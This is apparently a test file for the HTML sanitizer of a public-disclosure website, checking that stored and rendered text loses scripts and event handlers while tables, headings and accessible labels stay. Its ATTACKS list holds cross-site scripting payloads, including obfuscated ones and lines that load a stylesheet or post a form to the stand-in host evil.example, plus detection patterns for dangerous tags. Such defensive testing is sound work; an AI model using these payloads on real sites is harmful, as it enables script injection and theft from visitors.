"""正文的块：存下的、显示的都清洗过，怎样写都带不进脚本。"""

import re
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gongkai.disclosures.models.blocks import BodyBlock, HtmlBlock, ParagraphBlock, cleaned

_DANGER = re.compile(r"<(?:script|style|iframe|object|embed|form|input|img|svg|link|meta)\b", re.I)
_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.I)
_SCHEME = re.compile(r"""href=["']?\s*(?:javascript|data|vbscript):""", re.I)
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<p onclick=alert(1)>x</p>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<form action=http://evil.example><input name=a></form>",
    "<<script>script>alert(1)<</script>/script>",
    "<p style='position:fixed'>x</p>",
]


def is_safe(markup):
    return not (_DANGER.search(markup) or _HANDLER.search(markup) or _SCHEME.search(markup))


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_leave_nothing(attack):
    assert is_safe(cleaned(attack)) and "style=" not in cleaned(attack)


@given(st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "字", "&lt;script&gt;"]), max_size=8))
def test_attacks_put_together_leave_nothing_and_cleaning_again_changes_nothing(pieces):
    once = cleaned("".join(pieces))
    assert is_safe(once) and cleaned(once) == once


@given(st.text(alphabet=string.ascii_letters + string.punctuation + " 字\n", max_size=200))
def test_any_text_is_safe(markup):
    assert is_safe(cleaned(markup))


def test_what_a_document_needs_stays():
    kept = (
        "<h2>标题</h2><p>文<strong>重</strong><sup>2</sup></p><ol><li>一</li></ol>"
        '<table><tr><th scope="col" colspan="2">头</th></tr><tr><td>格</td></tr></table>'
    )
    once = cleaned(kept)
    for part in ("<h2>", "<strong>", "<sup>", "<li>", 'scope="col"', 'colspan="2"', "<td>"):
        assert part in once
    assert 'href="https://a.example/"' in cleaned('<a href="https://a.example/">外</a>')


@pytest.mark.parametrize("block", [HtmlBlock(), ParagraphBlock()])
def test_what_came_in_past_the_form_is_cleaned_when_shown(block):
    value = block.to_python("<p>字</p><script>alert(1)</script>")
    assert "<script" not in block.render_basic(value) and "字" in block.render_basic(value)


def test_the_form_and_the_store_clean_too():
    block = HtmlBlock()
    assert "<script" not in block.clean("<p>字</p><script>alert(1)</script>")
    assert "<script" not in block.get_prep_value("<p>字</p><script>alert(1)</script>")


def test_a_table_shows_its_headers_and_escapes_its_cells():
    stream = BodyBlock()
    value = {"data": [["名称<b>", "数"], ["甲", "<script>"]], "first_row_is_table_header": True}
    shown = stream.to_python([{"type": "table", "value": value}]).render_as_block()
    assert '<th scope="col">名称&lt;b&gt;</th>' in shown and "<script>" not in shown


def test_a_table_in_web_text_is_in_a_frame_that_scrolls():
    """宽表（如年报的表）在手机上不撑宽整页。"""
    shown = HtmlBlock().render_basic(
        "<p>甲</p><table><tr><td>1</td></tr></table><script>x</script>"
    )
    frame = '<div class="wide" tabindex="0" role="region" aria-label="表格"><table>'
    assert shown.startswith(f"<p>甲</p>{frame}") and shown.endswith("</table></div>")


def test_two_tables_on_a_page_are_told_apart():
    """听屏幕的人在几张表之间跳，不能都叫“表格”。"""
    one = "<table><tr><td>甲</td></tr></table>"
    named = "<table><caption>公租房<b>名单</b></caption><tr><td>乙</td></tr></table>"
    value = BodyBlock().to_python(
        [
            {"type": "html", "value": f"<p>前</p>{one}{one}"},
            {"type": "html", "value": named},
            {"type": "table", "value": {"data": [["丙"]], "table_caption": ""}},
        ]
    )
    labels = re.findall(r'aria-label="([^"]*)"', str(BodyBlock().render(value)))
    assert labels == ["表格", "表格（2）", "公租房名单", "表格（3）"]
